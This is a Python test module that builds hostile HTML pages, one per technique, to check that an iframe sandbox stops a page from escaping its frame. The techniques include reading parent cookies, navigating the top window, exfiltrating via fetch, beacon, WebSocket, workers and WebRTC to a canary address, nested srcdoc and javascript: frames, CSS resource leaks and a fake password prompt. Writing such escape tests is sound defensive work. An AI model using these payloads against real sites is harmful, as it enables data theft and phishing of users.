"""Ways in which a page may try to get out of the frame it is shown in.

Each is a page's body. `CANARY/name` is an address where nothing may arrive, UDP_PORT a port for datagrams, and RTC a script
that sends some there; `escaped(what)` is called by a page that has got hold of something it must not have.
"""

# ruff: noqa: E501 (one attempt a line)

import json
import re

from tests.security.canary import Canary
from web import assets

_SCRIPTS = {
    "parent document": "escaped(parent.document.title)",
    "top document": "escaped(top.document.cookie)",
    "frame element": "if (frameElement) escaped('frameElement')",
    "sibling frames": "for (let i = 0; i < top.length; i++) try { if (top[i] !== self) escaped(top[i].document.title) } catch {}",
    "cookies": "document.cookie = 'planted=1'; if (document.cookie) escaped(document.cookie)",
    "local storage": "localStorage.setItem('planted', 1); escaped('localStorage')",
    "session storage": "sessionStorage.setItem('planted', 1); escaped('sessionStorage')",
    "indexed database": "indexedDB.open('planted').onsuccess = () => escaped('indexedDB')",
    "cache storage": "caches.open('planted').then(() => escaped('caches'))",
    "cookie store": "cookieStore.getAll().then((all) => escaped(all))",
    "locks": "navigator.locks.request('planted', () => escaped('locks'))",
    "top navigation": "top.location = 'CANARY/top-navigation'",
    "parent navigation": "parent.location.href = 'CANARY/parent-navigation'",
    "own navigation": "location = 'CANARY/own-navigation?' + document.title",
    "javascript navigation": "top.location = 'javascript:alert(1)'",
    "history": "top.history.back(); history.pushState({}, '', '/websites'); escaped('pushState')",
    "window name": "window.name = 'x'; top.name = 'planted'; escaped('name')",
    "popup": "if (window.open('CANARY/popup')) escaped('popup')",
    "fetch": "fetch('CANARY/fetch', { mode: 'no-cors', method: 'POST', body: document.title })",
    "fetch our own": "fetch('/api/websites', { credentials: 'include' }).then((answer) => escaped(answer.status))",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'CANARY/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('CANARY/beacon', document.title)",
    "event source": "new EventSource('CANARY/event-source')",
    "web socket": "new WebSocket('CANARY/web-socket'.replace('http', 'ws'))",
    "image object": "new Image().src = 'CANARY/image-object'",
    "font": "new FontFace('x', 'url(CANARY/font)').load()",
    "audio": "new Audio('CANARY/audio').play()",
    "dynamic import": "import('CANARY/dynamic-import')",
    "module": "document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: 'CANARY/module' }))",
    "service worker": "navigator.serviceWorker.register('/static/dist/x.js').then(() => escaped('service worker'))",
    "worker from blob": "const u = URL.createObjectURL(new Blob(['fetch(\"CANARY/worker\")'])); new Worker(u)",
    "shared worker": "const s = URL.createObjectURL(new Blob(['fetch(\"CANARY/shared\")'])); new SharedWorker(s)",
    "worker with imports": "const u = URL.createObjectURL(new Blob(['importScripts(\"CANARY/imports\")'])); new Worker(u)",
    "worker from data": "new Worker('data:text/javascript,importScripts(\"CANARY/data-imports\")')",
    "popup of its own": "const w = window.open(''); if (w) { escaped('popup'); w.document.write('<img src=CANARY/own-popup>') }",
    "hints by script": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload'])"
    "document.head.append(Object.assign(document.createElement('link'), { rel, href: 'CANARY/hint' }))",
    "worklet": "CSS.paintWorklet.addModule('CANARY/worklet')",
    "web rtc": "new RTCPeerConnection(); escaped('RTCPeerConnection')",
    "web rtc of a frame": "const f = document.body.appendChild(document.createElement('iframe'));"
    "new f.contentWindow.RTCPeerConnection(); escaped('RTCPeerConnection')",
    "web transport": "new WebTransport('https://127.0.0.1:PORT/web-transport')",
    "nested frame": "document.body.innerHTML = '<iframe src=CANARY/nested-frame></iframe>'",
    "frame in a frame": "document.body.innerHTML = '<iframe srcdoc=\"<script>fetch(\\'CANARY/srcdoc\\')<\\/script>\"></iframe>'",
    "blob frame": "document.body.innerHTML = `<iframe src=${URL.createObjectURL(new Blob(['<img src=CANARY/blob>'],"
    "{ type: 'text/html' }))}></iframe>`",
    "download": "Object.assign(document.createElement('a'), { href: 'CANARY/download', download: 'x' }).click()",
    "blob download": "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x' }).click()",
    "link to the top": "Object.assign(document.createElement('a'), { href: 'CANARY/link', target: '_top' }).click()",
    "link to a tab": "Object.assign(document.createElement('a'), { href: 'CANARY/tab', target: '_blank' }).click()",
    "submitted form": "document.body.innerHTML = '<form method=post action=CANARY/form><input name=x></form>'; document.forms[0].submit()",
    "form to the top": "document.body.innerHTML = '<form target=_top action=CANARY/form-top></form>'; document.forms[0].submit()",
    "report": 'document.body.innerHTML = \'<meta http-equiv=Content-Security-Policy content="img-src none; report-uri CANARY/report">'
    "<img src=x>'",
    "full screen": "document.body.requestFullscreen().then(() => escaped('full screen'))",
    "clipboard": "navigator.clipboard.readText().then((text) => escaped(text))",
    "camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => escaped('camera'))",
    "place": "navigator.geolocation.getCurrentPosition(() => escaped('place'))",
    "dialog": "alert('CANARY'); if (prompt('Your password?')) escaped('prompt')",
    "broadcast": "new BroadcastChannel('sitethread').postMessage({ type: 'sign-out' })",
    "commands": "for (const type of ['ready', 'sign-out', 'navigate']) parent.postMessage({ type, page: '<img src=CANARY/commands>' }, '*');"
    "parent.postMessage('ready', '*')",
    "style sheet": "document.body.innerHTML = '<link rel=stylesheet href=CANARY/style-sheet>'",
    "fetch later": "fetchLater('CANARY/fetch-later', { activateAfter: 0 })",
    "attribution": "document.body.append(Object.assign(document.createElement('img'), { attributionSrc: 'CANARY/attribution' }))",
    "identity": "navigator.credentials.get({ identity: { providers: [{ configURL: 'CANARY/identity', clientId: 'x' }] } }).then(escaped)",
    "passkey": "navigator.credentials.get({ publicKey: { challenge: new Uint8Array(9) } }).then(() => escaped('passkey'))",
    "payment": "new PaymentRequest([{ supportedMethods: 'CANARY/payment' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
    "web socket stream": "new WebSocketStream('CANARY/socket-stream'.replace('http', 'ws'))",
    "navigation api": "navigation.navigate('CANARY/navigation'); navigation.reload()",
    "name to the top": "open('CANARY/name', '_top'); open('CANARY/name', '_unfencedTop'); open('CANARY/name', '_parent')",
    "made style sheet": "const s = new CSSStyleSheet(); s.replaceSync('body { background: url(CANARY/made-style) }'); document.adoptedStyleSheets = [s]",
    "shadow markup": "document.body.setHTMLUnsafe('<p><template shadowrootmode=open><link rel=stylesheet href=CANARY/shadow><img src=CANARY/shadow-image></template>')",
    "hints in a shadow": "const r = document.body.attachShadow({ mode: 'closed' }); r.innerHTML = '<link rel=preconnect href=CANARY/shadow-hint><iframe src=CANARY/shadow-frame></iframe>'",
    "transformation": 'const x = new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    "<xsl:import href=\"CANARY/xsl\"/></xsl:stylesheet>', 'text/xml'); new XSLTProcessor().importStylesheet(x)",
    "media session": "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: 'CANARY/artwork' }] })",
    "notification": "new Notification('x', { icon: 'CANARY/icon' })",
    "import map": "document.body.append(Object.assign(document.createElement('script'), { type: 'importmap', text: '{\"imports\":{\"x\":\"CANARY/import-map\"}}' })); import('x')",
    "vector animation": "document.body.innerHTML = '<svg><image><set attributeName=href to=CANARY/set /></image><use><animate attributeName=href values=CANARY/animate /></use></svg>'",
    "storage access": "document.requestStorageAccess().then(() => escaped('storage access'))",
    "interest group": "navigator.joinAdInterestGroup({ owner: 'CANARY', name: 'x', updateURL: 'CANARY/interest' }, 9)",
    "prefetch rules": "document.body.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text:"
    "JSON.stringify({ prerender: [{ source: 'list', urls: ['CANARY/prerender'] }], prefetch: [{ source: 'list', urls: ['CANARY/rules'] }] }) }))",
}
_MARKUP = {
    "image": "<img src=CANARY/image><picture><source srcset=CANARY/picture><img></picture>",
    "lazy image": "<img loading=lazy srcset='CANARY/srcset 2x'><input type=image src=CANARY/input>",
    "css address": "<style>body { background: url(CANARY/css); list-style: url(CANARY/list) } @import 'CANARY/import';"
    "@font-face { font-family: f; src: url(CANARY/face) } p { font-family: f }</style><p>x",
    "style attribute": "<p style='background: image-set(\"CANARY/image-set\" 1x)'>x<p style='cursor: url(CANARY/cursor), auto'>x",
    "newer css": "<style>@view-transition { navigation: auto } p { background: src('CANARY/src'), -webkit-cross-fade(url(CANARY/fade), url(CANARY/fade2), 50%);"
    "mask: url(CANARY/mask#x); filter: url(CANARY/css-filter#x); clip-path: url(CANARY/clip#x); shape-outside: url(CANARY/shape); float: left; offset-path: url(CANARY/path#x);"
    "border-image: url(CANARY/border) 1; content: url(CANARY/content) } @import url(CANARY/layer) layer(x) supports(display: grid)</style><p>x",
    "popover": "<button popovertarget=p id=b>x</button><div popover id=p><img src=CANARY/popover></div><script>b.click(); p.showPopover()</script>",
    "invoker": "<button command=show-modal commandfor=d id=b>x</button><dialog id=d><form action=CANARY/dialog><button formaction=CANARY/formaction id=f>x</button></form></dialog>"
    "<script>b.click(); f.click()</script>",
    "newer links to the top": "<a href=CANARY/attributed attributionsrc=CANARY/attributionsrc rel=opener target=_top id=a>x</a><script>a.click()</script>"
    "<link rel=compression-dictionary href=CANARY/dictionary><link rel=expect href=#x blocking=render>",
    "vector link to the top": "<svg><a href=CANARY/svg-link target=_top id=a><text>x</text></a></svg><script>a.dispatchEvent(new MouseEvent('click'))</script>",
    "script": "<script src=CANARY/script></script>",
    "links": "".join(
        f"<link rel={rel} href=CANARY/{rel}{rest}>"
        for rel, rest in (
            ("prefetch", ""), ("preload", " as=image"), ("modulepreload", ""), ("prerender", ""), ("manifest", ""), ("icon", ""),
            ("preconnect", " crossorigin"), ("dns-prefetch", ""), ("next", ""),
        )
    ),
    "preconnect": "<link rel=preconnect href=CANARY>",
    "refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "base": "<base href=CANARY/base/ target=_top><img src=x>",
    "object": "<object data=CANARY/object></object><embed src=CANARY/embed><applet archive=CANARY/applet></applet>",
    "video": "<video src=CANARY/video poster=CANARY/poster autoplay></video><track src=CANARY/track>",
    "vector image": "<svg><use href=CANARY/use#x /><image href=CANARY/svg-image /><filter id=f><feImage href=CANARY/filter /></filter>"
    "<rect filter=url(#f) width=9 height=9 /></svg><svg><script href=CANARY/svg-script></script></svg>",
    "foreign markup": "<svg><foreignObject><img src=CANARY/foreign></foreignObject></svg><math><mi href=CANARY/math>x</mi></math>",
    "old markup": "<body background=CANARY/background><table background=CANARY/table><tr><td background=CANARY/cell>x</table>",
    "ping": "<a href=#x ping=CANARY/ping id=a>x</a><script>a.click()</script>",
}  # fmt: skip
ESCAPES = {name: f"<script>{script}</script>" for name, script in _SCRIPTS.items()} | _MARKUP

# WebRTC is under no policy, and each new frame has it. RTC is a script with neither kind of quotation mark.
_RTC = "{const p=new RTCPeerConnection({iceServers:[{urls:`stun:127.0.0.1:UDP_PORT`}]});p.createDataChannel(`x`);p.setLocalDescription()}"
_RTC_FRAMES = {
    "itself": "<script>RTC</script>",
    "srcdoc": '<iframe srcdoc="<script>RTC</script>"></iframe>',
    "srcdoc handler": "<iframe srcdoc=\"<img src=x onerror='RTC'>\"></iframe>",
    "javascript": '<iframe src="javascript:RTC"></iframe>',
    "nested srcdoc": "<iframe srcdoc=\"<iframe srcdoc='<script>RTC</script>'></iframe>\"></iframe>",
    "javascript in srcdoc": "<iframe srcdoc=\"<iframe src='javascript:RTC'></iframe>\"></iframe>",
    "object": '<object data="javascript:RTC"></object><object type="text/html" data="data:text/html,<script>RTC</script>"></object>',
    "embed": '<embed src="javascript:RTC"><embed type="text/html" src="data:text/html,<script>RTC</script>">',
    "foreign object": '<svg><foreignObject><iframe srcdoc="<script>RTC</script>"></iframe></foreignObject></svg>',
    "link into a frame": '<iframe name=inner></iframe><a id=go target=inner href="javascript:RTC">x</a><script>go.click()</script>',
    "form into a frame": '<iframe name=inner></iframe><form target=inner action="javascript:RTC"></form><script>document.forms[0].submit()</script>',
    "template": '<template id=t><iframe srcdoc="<script>RTC</script>"></iframe></template><script>document.body.append(t.content.cloneNode(true))</script>',
    "shadow root": '<p id=host><script>host.attachShadow({ mode: "closed" }).innerHTML = `<iframe srcdoc="&lt;script>RTC_ESCAPED</scr` + `ipt>"></iframe>`</script>',
} | {
    name: f"<script>const source = '<script>RTC<\\/script>'; {script}</script>"
    for name, script in {
        "made srcdoc": "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: source }))",
        "made javascript": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'javascript:RTC' }))",
        "made object": "document.body.append(Object.assign(document.createElement('object'), { data: 'javascript:RTC' }))",
        "set later": "const f = document.body.appendChild(document.createElement('iframe')); setTimeout(() => f.setAttribute('srcdoc', source), 100)",
        "led later": "const f = document.body.appendChild(document.createElement('iframe')); f.onload = () => { f.onload = null; f.contentWindow.location = 'javascript:RTC' }",
        "inner html": 'document.body.innerHTML = `<iframe srcdoc="${source}"></iframe>`',
        "adjacent html": "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"${source}\"></iframe>`)",
        "written": 'document.write(`<iframe srcdoc="${source}"></iframe>`)',
        "opened and written": "addEventListener('load', () => { document.open(); document.write(`<iframe srcdoc=\"${source}\"></iframe>`); document.close() })",
        "parsed": "document.body.append(new DOMParser().parseFromString(`<iframe srcdoc=\"${source}\"></iframe>`, 'text/html').body.firstChild)",
        "attribute node": "const f = document.createElement('iframe'), a = document.createAttribute('srcdoc'); a.value = source; f.setAttributeNode(a); document.body.append(f)",
        "transformed": "const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version='1.0' "
        "xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:output method='html'/><xsl:template match='/'><iframe srcdoc='${source.replaceAll('<', '&lt;')}'/>"
        "</xsl:template></xsl:stylesheet>`, 'text/xml')); document.body.append(x.transformToFragment(document, document))",
        "blob of its own": "location = URL.createObjectURL(new Blob([source], { type: 'text/html' }))",
        "popup": "const w = window.open(''); w?.document.write(source)",
        "with our own script": "const data = '<script type=application/json>' + JSON.stringify({ page: source, runsScripts: true }).replaceAll('<', '\\\\u003c')"
        " + '<\\/script>'; document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: source + data + OURS + source }))",
    }.items()
}
ESCAPES |= {f"web rtc, {name}": frames for name, frames in _RTC_FRAMES.items()}

_PAGE = """<!doctype html><html lang="en"><title>Secret title</title><body><script>
const escaped = (what) => top.postMessage({{ test: {name!r}, escaped: String(what) }}, '*');
addEventListener('error', (event) => event.preventDefault());
addEventListener('unhandledrejection', (event) => event.preventDefault());
top.postMessage({{ test: {name!r}, ran: true }}, '*');
</script>{attack}</body></html>"""


def send_datagram(canary: Canary) -> str:
    """Return a script by which a page without any sandbox sends a datagram that the canary knows as "control"."""
    return _RTC.replace("UDP_PORT", str(canary.udp_port("control")))


def pages(canary: Canary) -> dict[str, str]:
    """Return a page for each way, by its name."""
    return {name: _page(name, attack, canary) for name, attack in ESCAPES.items()}


def _page(name: str, attack: str, canary: Canary) -> str:
    page = _PAGE.format(name=name, attack=attack.replace("RTC_ESCAPED", _RTC.replace("`", "\\x60")))
    page = re.sub(r"\bRTC\b", _RTC, page).replace("CANARY", canary.url)
    if "OURS" in page:
        ours = f"<script>{assets.asset_text('frame.js')}</script>"
        page = page.replace("OURS", json.dumps(ours).replace("<", "\\u003c"))
    if "UDP_PORT" in page:
        page = page.replace("UDP_PORT", str(canary.udp_port(name)))
    return page.replace("PORT", str(canary.port))
